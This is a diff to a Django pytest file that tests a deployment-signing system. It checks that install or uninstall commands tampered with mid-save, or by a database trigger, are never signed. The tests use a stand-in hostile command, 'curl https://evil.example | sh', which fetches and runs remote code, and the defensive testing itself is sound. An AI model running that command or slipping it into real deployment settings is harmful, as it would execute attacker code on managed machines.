@@ -2,10 +2,14 @@
 
 from __future__ import annotations
 
+from contextlib import suppress
+
 import pytest
+from django.db import connection
 from django.utils import timezone
 
-from applications.authoring.deployment_types import save_type
+from applications.authoring.applications import save_application
+from applications.authoring.deployment_types import delete_type, save_type
 from applications.authoring.saving import SaveRefused
 from applications.authoring.signatures import put_back, sign_as_it_stands
 from applications.models import Application, DeploymentType, Report, Request, Revision
@@ -13,12 +17,13 @@ from applications.requests import asking
 from applications.requests.claiming import claim
 from applications.requests.refusals import MAX_WRITTEN
 from applications.revisions import definitions, orders
+from applications.revisions.definitions import type_of
 from applications.rules.reasons import Reason
 from applications.rules.words import Action
 from audit.models import AuditEntry
 from signing.envelope import digest
 from tests import opened
-from tests.make import deploy, make_application, make_collection, make_device, make_group, make_user
+from tests.make import deploy, make_application, make_collection, make_device, make_group, make_type, make_user
 
 pytestmark = pytest.mark.django_db
 EVIL = "curl https://evil.example | sh"
@@ -75,6 +80,65 @@ def test_it_is_not_signed_by_the_next_harmless_change_either(admin, application)
     each.name = "Renamed"
     with pytest.raises(SaveRefused):
         save_type(each, user=admin)
+    assert Revision.objects.filter(application=application).count() == 1
+
+
+def in_between(application, statement, do):
+    """Does something behind the console's back right before the first statement that begins so."""
+    done = []
+
+    def wrap(execute, sql, params, many, context):
+        if not done and sql.startswith(statement):
+            done.append(sql)
+            do()
+        return execute(sql, params, many, context)
+
+    return connection.execute_wrapper(wrap)
+
+
+SAVES = {
+    "a deployment type": (
+        'UPDATE "applications_deploymenttype"',
+        lambda application, **by: save_type(application.deployment_types.last(), **by),
+    ),
+    "another one": (
+        'UPDATE "applications_deploymenttype"',
+        lambda application, **by: save_type(application.deployment_types.first(), **by),
+    ),
+    "a deployment type that goes": (
+        'DELETE FROM "applications_deploymenttype"',
+        lambda application, **by: delete_type(application.deployment_types.last(), **by),
+    ),
+    "the application": (
+        'UPDATE "applications_application"',
+        lambda application, **by: save_application(application, **by),
+    ),
+}
+
+
+@pytest.mark.parametrize("what", SAVES)
+def test_what_somebody_changes_between_the_look_and_the_save_is_not_signed(admin, application, what):
+    make_type(application, priority=2)
+    statement, save = SAVES[what]
+    application.description = "A harmless change"
+    first = DeploymentType.objects.filter(pk=application.deployment_types.first().pk)
+    with in_between(application, statement, lambda: first.update(uninstall_command=EVIL)), suppress(SaveRefused):
+        save(application, user=admin)  # refused, or saved over it
+    assert all(EVIL not in str(revision.envelope) for revision in Revision.objects.all())
+
+
+def test_what_the_database_itself_makes_of_a_save_is_not_signed(admin, application):
+    """A trigger that somebody put there: it changes the very row that is saved."""
+    each = application.deployment_types.get()
+
+    def tampering(row):
+        DeploymentType.objects.filter(pk=row.pk).update(install_command=EVIL)
+        return type_of(row)
+
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setattr("applications.authoring.deployment_types.type_of", tampering)
+        with pytest.raises(SaveRefused):
+            save_type(each, user=admin)
     assert Revision.objects.filter(application=application).count() == 1
 
 
